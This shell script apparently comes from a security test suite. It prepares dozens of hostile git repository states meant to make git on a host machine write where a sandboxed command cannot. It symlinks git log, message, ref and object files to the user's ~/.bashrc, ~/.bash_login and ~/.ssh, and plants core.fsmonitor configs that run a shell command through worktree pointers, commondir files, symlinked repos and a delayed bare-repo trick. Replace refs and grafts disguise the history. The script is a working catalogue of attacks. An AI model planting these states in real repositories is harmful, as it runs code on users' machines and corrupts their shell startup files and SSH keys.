# Puts a symlink into a git directory, so that git on the host writes to a file that the command
# cannot write. $1 names the attack. Some of git's files can be read as shell commands.
bashrc=$HOME/.bashrc
# Makes $1 a link to the user's file, or to $2.
led() { rm -rf "$1" && mkdir -p "$(dirname "$1")" && ln -s "${2:-$bashrc}" "$1"; }
monitor() { git -C "$1" config core.fsmonitor "touch $HOME/pwned; false"; }
case $1 in
message) led .git/COMMIT_EDITMSG ;;
log) led .git/logs/HEAD ;;
# The first link looks like a symbolic ref, and the second is at a path where objects could be.
log-by-two-links)
    led .git/logs/refs/heads/objects/ab/x && rm .git/logs/HEAD
    ln -s refs/heads/objects/ab/x .git/logs/HEAD
    ;;
log-of-a-branch) led .git/logs/refs/heads/main ;;
log-of-this-branch) led ".git/logs/$(git symbolic-ref HEAD)" ;;
logs-of-branches) rm -rf .git/logs/refs && ln -s "$HOME/.ssh" .git/logs/refs ;;
closed) led .git/logs/refs/heads/main && chmod 300 .git/logs/refs/heads ;;
fetched) led .git/FETCH_HEAD ;;
packed) led .git/packed-refs "$HOME/.bash_login" ;;
objects) mv .git/objects aside && ln -s "$HOME/.ssh" .git/objects ;;
object) rm -rf .git/objects/[0-9a-f]? && for n in $(seq 0 255); do ln -s "$HOME/.ssh" ".git/objects/$(printf %02x "$n")"; done ;;
worktree) led .git/worktrees/elsewhere/COMMIT_EDITMSG ;;
new-worktree) git worktree add -q -b new deep/er/new && led .git/worktrees/new/COMMIT_EDITMSG ;;
module) led .git/modules/sub/COMMIT_EDITMSG ;;
module-objects) led .git/modules/objects/ab/COMMIT_EDITMSG ;;
make-among-objects)
    git init -q --separate-git-dir=.git/objects/ab new && git -C new commit -q --allow-empty -m one
    git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),new"
    ;;
among-objects) led .git/objects/ab/COMMIT_EDITMSG ;;
embedded-closed)
    git init -q new && git -C new commit -q --allow-empty -m one
    git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),new"
    led new/.git/logs/refs/heads/main && chmod 300 new/.git/logs/refs/heads
    ;;
embedded) led new/.git/COMMIT_EDITMSG ;;
exchanged) rm .git/logs && ln -s "$HOME/.ssh" .git/logs ;;
# When the user removes the folder `target` with build results, `.git` stops being a repository.
delayed)
    mkdir target objects refs && mv .git/refs target/refs && ln -s ../target/refs .git/refs
    echo 'ref: refs/heads/main' >HEAD
    printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n' "$PWD" >config
    printf '\tfsmonitor = "touch %s/pwned; false"\n' "$HOME" >>config
    ;;
bare-beside) mkdir objects refs && echo 'ref: refs/heads/main' >HEAD ;;
worktree-elsewhere)
    git worktree add -q -b new deep/er/new && git init -q x/evil && monitor x/evil
    echo "$PWD/x/evil/.git" >.git/worktrees/new/commondir
    ;;
worktree-pointer)
    git worktree add -q -b new deep/er/new && git init -q x/evil && monitor x/evil
    echo "gitdir: $PWD/x/evil/.git" >deep/er/new/.git
    ;;
worktree-alone)
    git worktree add -q -b new deep/er/new && cp -rL .git/objects .git/refs .git/worktrees/new
    rm .git/worktrees/new/commondir
    printf '[core]\n\tfsmonitor = "touch %s/pwned; false"\n' "$HOME" >.git/worktrees/new/config
    ;;
worktree-settings)
    git worktree add -q -b new deep/er/new
    printf '[core]\n\tfsmonitor = "touch %s/pwned; false"\n' "$HOME" >.git/worktrees/new/config.worktree
    ;;
replaced) git replace HEAD "$(git commit-tree -m innocent HEAD^{tree})" ;;
replaced-packed) git replace HEAD "$(git commit-tree -m innocent HEAD^{tree})" && git pack-refs --all ;;
grafted) git commit -q --allow-empty -m two && git rev-parse HEAD >.git/info/grafts ;;
shallow) git commit -q --allow-empty -m two && git rev-parse HEAD >.git/shallow ;;
link-to-one) mkdir -p x/y && git init -q x/y/d && monitor x/y/d && ln -s x/y/d s ;;
link-to-a-cache) git init -q "$HOME/.cache/d" && monitor "$HOME/.cache/d" && ln -s "$HOME/.cache/d" s ;;
*) exit 1 ;;
esac
echo done
